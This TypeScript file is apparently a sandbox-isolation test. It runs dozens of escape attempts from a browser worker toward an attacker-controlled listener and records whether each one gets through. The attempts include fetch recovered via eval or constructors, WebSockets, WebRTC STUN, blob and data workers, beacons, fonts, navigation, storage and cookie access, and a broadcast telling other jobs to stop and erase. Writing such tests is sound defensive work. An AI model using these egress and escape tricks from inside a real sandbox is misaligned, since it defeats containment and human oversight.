// Everything hostile code could try from a worker of a browser's sandbox: each attempt says how it ended, and who listens
// outside says whether anything came through. Types that can be erased and no imports: it also runs without the runtime.

/** Where the attacker listens. */
export interface Target {
  /** `host:port` of HTTP, WebSocket and bare TCP. */
  readonly tcp: string;
  /** `host:port` that waits for STUN. */
  readonly udp: string;
  /** A name that nobody may even look up. */
  readonly name: string;
  /** Of the cluster's own server. */
  readonly own: string;
}

type Anything = any; // oxlint-disable-line typescript/no-explicit-any -- hostile code does not care for types

const scope = globalThis as Anything;
const LIMIT_MS = 1_500;

/** Waits for one of two events of something that connects. */
function outcome(target: Anything, good: string, bad: string): Promise<string> {
  return new Promise((resolve) => {
    target.addEventListener(good, () => resolve('OPEN'));
    target.addEventListener(bad, () => resolve('closed: error event'));
  });
}

const NESTED = `fetch('http://%').then(() => postMessage('OPEN'), () => postMessage('closed'))`;

function nestedWorker(url: string): Promise<string> {
  const worker = new scope.Worker(url);
  return new Promise((resolve) => {
    worker.onmessage = (event: Anything) => resolve(String(event.data));
    worker.onerror = () => resolve('closed: error event');
  });
}

/** The attempts by name. */
export const ATTEMPTS: Record<string, (target: Target) => unknown> = {
  fetch: async ({ tcp }) => scope.fetch(`http://${tcp}/fetch`),
  'fetch no-cors': async ({ tcp }) => scope.fetch(`http://${tcp}/no-cors`, { mode: 'no-cors' }),
  'fetch keepalive': async ({ tcp }) => scope.fetch(`http://${tcp}/keepalive`, { keepalive: true, method: 'POST' }),
  'fetch by name': async ({ name }) => scope.fetch(`http://fetch.${name}/`),
  'fetch own server': async ({ own }) => scope.fetch(`${own}/api/v1/cluster`, { mode: 'no-cors' }),
  'fetch found by eval': async ({ tcp }) => scope.eval('fetch')(`http://${tcp}/eval`),
  'fetch found on prototypes': async ({ tcp }) => {
    for (let place = scope; place; place = Object.getPrototypeOf(place)) {
      const found = Object.getOwnPropertyDescriptor(place, 'fetch')?.value;
      if (found) return found.call(scope, `http://${tcp}/prototype`);
    }
    throw new Error('no fetch anywhere');
  },
  'fetch found by a constructor': async ({ tcp }) => {
    const build = (async () => undefined).constructor as Anything;
    return build(`return (await fetch('http://${tcp}/constructor')).text()`)();
  },
  XMLHttpRequest: ({ tcp }) => {
    const request = new scope.XMLHttpRequest();
    request.open('GET', `http://${tcp}/xhr`, false);
    request.send();
    return 'OPEN';
  },
  WebSocket: ({ tcp }) => outcome(new scope.WebSocket(`ws://${tcp}/ws`), 'open', 'error'),
  WebSocketStream: async ({ tcp }) => new scope.WebSocketStream(`ws://${tcp}/wss`).opened,
  EventSource: ({ tcp }) => outcome(new scope.EventSource(`http://${tcp}/events`), 'open', 'error'),
  WebTransport: async ({ tcp }) => new scope.WebTransport(`https://${tcp}/transport`).ready,
  import: async ({ tcp }) => import(/* @vite-ignore */ `http://${tcp}/module.js`),
  'import by name': async ({ name }) => import(/* @vite-ignore */ `http://import.${name}/module.js`),
  importScripts: ({ tcp }) => scope.importScripts(`http://${tcp}/script.js`) ?? 'OPEN',
  'nested worker, remote': ({ tcp }) => nestedWorker(`http://${tcp}/worker.js`),
  'nested worker, data': ({ tcp }) => nestedWorker(`data:text/javascript,${NESTED.replace('%', tcp)}`),
  'nested worker, blob': ({ tcp }) => {
    const blob = new scope.Blob([NESTED.replace('%', tcp)], { type: 'text/javascript' });
    return nestedWorker(scope.URL.createObjectURL(blob));
  },
  'shared worker': ({ tcp }) => {
    void new scope.SharedWorker(`http://${tcp}/shared.js`);
    return 'OPEN';
  },
  beacon: ({ tcp }) => (scope.navigator.sendBeacon(`http://${tcp}/beacon`, 'x') === true ? 'OPEN' : 'closed'),
  font: async ({ tcp }) => new scope.FontFace('f', `url(http://${tcp}/font)`).load(),
  navigation: ({ tcp }) => {
    scope.location = `http://${tcp}/navigation`;
    throw new Error(`still at ${String(scope.location).slice(0, 20)}`);
  },
  'navigation by method': ({ tcp }) => scope.location.assign(`http://${tcp}/assign`) ?? 'OPEN',
  'opening a window': ({ tcp }) => scope.open(`http://${tcp}/window`) ?? 'OPEN',
  WebRTC: async ({ udp }) => {
    const connection = new scope.RTCPeerConnection({ iceServers: [{ urls: `stun:${udp}` }] });
    connection.createDataChannel('x');
    await connection.setLocalDescription(await connection.createOffer());
    return 'OPEN';
  },
  'the document of the frame': ({ tcp }) => {
    // What a document could be talked into, if it listened: a preconnect leaks a name without any request.
    for (const message of [
      'daylight-sandbox',
      { type: 'spawn', settings: { workerId: 1e6 } },
      { type: 'eval', code: `new RTCPeerConnection({ iceServers: [{ urls: 'stun:${tcp}' }] })` },
      `<link rel=preconnect href=http://${tcp}>`,
    ]) {
      scope.postMessage(message);
    }
    return 'closed: nobody answered';
  },
  'the page around': () => {
    for (const name of ['document', 'window', 'parent', 'top', 'frames', 'opener'])
      if (scope[name] !== undefined) return `OPEN: ${name}`;
    throw new Error('there is none');
  },
  IndexedDB: () => {
    const request = scope.indexedDB.open('escape');
    return outcome(request, 'success', 'error');
  },
  caches: async () => scope.caches.open('escape'),
  'file system': async () => scope.navigator.storage.getDirectory(),
  cookies: async () => scope.cookieStore.getAll(),
  'local storage': () => scope.localStorage.setItem('escape', '1') ?? 'OPEN',
  'web locks': async () => scope.navigator.locks.request('escape', () => 'OPEN'),
  notification: async () => ((await scope.Notification.requestPermission()) === 'granted' ? 'OPEN' : 'closed'),
  'other jobs by a channel': () => {
    new scope.BroadcastChannel('daylight-node').postMessage({ type: 'wish', wish: 'stop', erase: true });
    return 'closed: said into the void';
  },
};

/** How an attempt ends. */
export async function tried(attempt: (target: Target) => unknown, target: Target): Promise<string> {
  const limit = new Promise<string>((resolve) => setTimeout(() => resolve('closed: no answer'), LIMIT_MS));
  try {
    const result = await Promise.race([Promise.resolve(attempt(target)), limit]);
    return typeof result === 'string' ? result : 'OPEN';
  } catch (error) {
    return `closed: ${error instanceof Error ? error.message : String(error)}`;
  }
}

/** How every attempt ends, by name. */
export async function tryAll(target: Target): Promise<Record<string, string>> {
  const names = Object.keys(ATTEMPTS);
  const outcomes = await Promise.all(
    names.map((name) => tried(ATTEMPTS[name] ?? (() => 'OPEN: nothing tried'), target)),
  );
  return Object.fromEntries(names.map((name, index) => [name, outcomes[index] ?? 'OPEN: no outcome']));
}
